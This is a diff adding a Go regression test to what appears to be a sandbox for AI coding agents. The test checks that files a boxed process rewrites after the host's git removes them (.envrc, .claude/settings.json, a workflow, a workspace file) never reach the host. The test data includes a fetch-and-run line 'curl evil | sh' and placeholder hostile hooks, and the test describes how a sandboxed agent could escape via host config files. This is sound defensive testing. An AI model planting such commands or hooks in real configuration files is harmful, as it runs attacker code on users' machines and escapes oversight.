@@ -6,6 +6,9 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/agentbox/agentbox/internal/engine"
+	"github.com/agentbox/agentbox/internal/engine/enginetest"
 )
 
 // TestAttackHardLinkedProtectedFile guards review finding F2: the host's .envrc has a second
@@ -47,4 +50,67 @@ func runSh(dir, script string) ([]byte, error) {
 	c := exec.Command("sh", "-c", script)
 	c.Dir = dir
 	return c.CombinedOutput()
+}
+
+// TestAttackHostRemovedProtectedFile guards review finding F1: while a box runs, the host's
+// git switches to a branch without .envrc, .claude/settings.json and the workflows folder
+// (git removes them, and the binds over them go in the box), and the host renames
+// proj.code-workspace away (its bind moves along). The box then writes each path again. Before,
+// box-init re-bound what it found there — the box's files — or did not notice the rename, and
+// the box's files stayed in the host's workspace: the host's git status listed them and a
+// checkout back to main refused to overwrite them. Now each path the host removed is guarded
+// from then on: the box's writes succeed in the box and are kept as proposed changes, and the
+// host's workspace holds nothing the box wrote.
+func TestAttackHostRemovedProtectedFile(t *testing.T) {
+	needGit(t)
+	evil := map[string]string{
+		".envrc":                     "curl evil | sh\n",
+		".claude/settings.json":      `{"hooks":{"Stop":"evil"}}` + "\n",
+		".github/workflows/evil.yml": "on: push # evil\n",
+		"proj.code-workspace":        `{"tasks":"evil"}` + "\n",
+	}
+	script := `while [ ! -e .git/agentbox-test-go ]; do sleep 0.02; done
+set -e
+mkdir -p .claude .github/workflows
+`
+	for rel, content := range evil {
+		script += "printf '%s' " + shellQuote(content) + " > " + rel + "\n"
+	}
+	var ws string
+	pb, r := newProtectedBox(t, func(w string) {
+		ws = w
+		repo(t, w)
+		git(t, w, "checkout", "-q", "-b", "bare")
+		git(t, w, "rm", "-q", "-r", ".envrc", ".claude/settings.json", ".github/workflows")
+		git(t, w, "commit", "-q", "-m", "bare")
+		git(t, w, "checkout", "-q", "main")
+	}, script, enginetest.Options{AfterExec: func(*engine.Box) {
+		git(t, ws, "checkout", "-q", "bare")
+		if err := os.Rename(filepath.Join(ws, "proj.code-workspace"), filepath.Join(ws, "proj.code-workspace.bak")); err != nil {
+			t.Error(err)
+		}
+		write(t, filepath.Join(ws, ".git/agentbox-test-go"), "")
+	}})
+	defer pb.release(t)
+	if r.Exit != 0 {
+		t.Errorf("the box's writes failed: exit %d (stdout %q stderr %q)", r.Exit, r.Stdout, r.Stderr)
+	}
+	for rel, content := range evil {
+		if b, err := os.ReadFile(filepath.Join(ws, rel)); err == nil {
+			t.Errorf("%s on the host holds %q after the box (the box wrote %q)", rel, b, content)
+		}
+		if b, err := os.ReadFile(filepath.Join(pb.changes, rel)); err != nil || string(b) != content {
+			t.Errorf("proposed change %s: %q (%v), want the box's %q", rel, b, err, content)
+		}
+	}
+	// The host's git sees only what the host did, and goes back to main.
+	if out := git(t, ws, "status", "--porcelain"); out != " D proj.code-workspace\n?? proj.code-workspace.bak\n" {
+		t.Errorf("host git status after the box:\n%s", out)
+	}
+	git(t, ws, "checkout", "-q", "proj.code-workspace")
+	git(t, ws, "checkout", "-q", "main")
+	if b, err := os.ReadFile(filepath.Join(ws, ".envrc")); err != nil || string(b) != "export A=1\n" {
+		t.Errorf(".envrc after checking main out again: %q, %v", b, err)
+	}
+	t.Logf("box stderr: %s", r.Stderr)
 }
